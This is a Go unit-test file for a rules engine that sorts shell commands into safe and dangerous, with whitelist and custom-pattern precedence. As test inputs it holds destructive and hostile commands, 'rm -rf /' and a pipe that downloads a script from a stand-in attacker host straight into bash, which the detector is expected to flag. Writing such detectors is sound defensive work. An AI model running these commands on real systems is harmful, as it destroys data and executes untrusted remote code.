package rules_test

import (
	"regexp"
	"testing"

	"github.com/bdobrica/cmdgate/internal/rules"
)

func TestClassify_SafeAllowlist(t *testing.T) {
	e := rules.NewEngine()
	v := e.Classify("ls -la")
	if v.Dangerous {
		t.Fatalf("expected safe, got dangerous: %+v", v)
	}
	if v.Reason != "safe command" {
		t.Errorf("expected reason %q, got %q", "safe command", v.Reason)
	}
}

func TestClassify_Deterministic(t *testing.T) {
	e := rules.NewEngine()
	const cmd = "rm -rf /"
	v1 := e.Classify(cmd)
	v2 := e.Classify(cmd)
	if v1 != v2 {
		t.Fatalf("classify is not deterministic: %+v vs %+v", v1, v2)
	}
}

func TestClassify_BuiltinCritical(t *testing.T) {
	e := rules.NewEngine()
	v := e.Classify("rm -rf /")
	if !v.Dangerous {
		t.Fatal("expected dangerous")
	}
	if v.Severity != rules.SeverityCritical {
		t.Errorf("expected critical severity, got %q", v.Severity)
	}
}

func TestClassify_PipeDownloadToShell(t *testing.T) {
	e := rules.NewEngine()
	v := e.Classify("curl https://evil.example/install.sh | bash")
	if !v.Dangerous || v.Severity != rules.SeverityCritical {
		t.Fatalf("expected critical dangerous verdict, got %+v", v)
	}
}

func TestClassify_WhitelistWinsOverBuiltin(t *testing.T) {
	e := rules.NewEngine(rules.WithWhitelist([]string{`^rm -rf /tmp/build$`}))
	v := e.Classify("rm -rf /tmp/build")
	if v.Dangerous {
		t.Fatalf("expected whitelist to win, got %+v", v)
	}
	if v.Reason != "whitelisted" {
		t.Errorf("expected reason %q, got %q", "whitelisted", v.Reason)
	}
}

func TestClassify_InvalidWhitelistNeverCausesFalsePositive(t *testing.T) {
	e := rules.NewEngine(rules.WithWhitelist([]string{`(unterminated[`}))
	v := e.Classify("ls")
	if v.Dangerous {
		t.Fatalf("an invalid whitelist entry must never cause a false positive, got %+v", v)
	}
}

func TestClassify_CustomPatternWinsOverBuiltin(t *testing.T) {
	e := rules.NewEngine(rules.WithCustomPatterns([]rules.Pattern{
		{Regexp: regexp.MustCompile(`^touch marker$`), Severity: rules.SeverityLow, Reason: "custom test rule"},
	}))
	v := e.Classify("touch marker")
	if !v.Dangerous || v.Reason != "custom test rule" {
		t.Fatalf("expected custom pattern to win, got %+v", v)
	}
}

func TestClassify_NoMatch(t *testing.T) {
	e := rules.NewEngine()
	v := e.Classify("cowsay hello")
	if v.Dangerous {
		t.Fatalf("expected safe default, got %+v", v)
	}
	if v.Reason != "no dangerous patterns detected" {
		t.Errorf("unexpected reason: %q", v.Reason)
	}
}
